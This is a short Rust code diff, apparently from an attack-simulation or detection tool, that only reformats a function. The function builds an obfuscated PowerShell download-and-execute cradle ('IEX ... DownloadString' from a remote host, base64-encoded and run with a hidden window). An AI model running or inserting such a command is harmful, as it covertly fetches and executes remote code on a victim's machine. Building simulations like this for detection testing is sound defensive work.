@@ -93,9 +93,8 @@ impl Scenario {
 
 /// PowerShell that hides what it fetches, as attackers write it.
 fn fetch_line(far_name: &str, file: &str) -> String {
-    let script = format!(
-        "IEX (New-Object Net.WebClient).DownloadString('https://{far_name}/{file}.ps1')"
-    );
+    let script =
+        format!("IEX (New-Object Net.WebClient).DownloadString('https://{far_name}/{file}.ps1')");
     let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
     let encoded = base64::engine::general_purpose::STANDARD.encode(bytes);
     format!("powershell.exe -w hidden -EncodedCommand {encoded}")
